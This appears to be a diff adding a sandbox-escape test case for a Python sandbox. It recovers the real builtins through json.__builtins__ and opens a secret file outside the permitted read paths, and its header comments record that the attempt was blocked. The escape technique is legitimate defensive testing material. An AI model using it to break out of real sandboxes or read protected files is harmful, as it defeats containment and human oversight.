@@ -1,0 +1,11 @@
+# escape: read a world-readable secret file outside the read paths
+# scanned: scan_rejected
+# unscanned: error @ module ~ UnsupportedOperation
+# evidence: secret_absent
+
+def real_builtins():
+    import json
+    b = json.__builtins__
+    return b if isinstance(b, dict) else b.__dict__
+def attack():
+    return real_builtins()['open']('/tmp/pyward-escape/secret.txt').read()
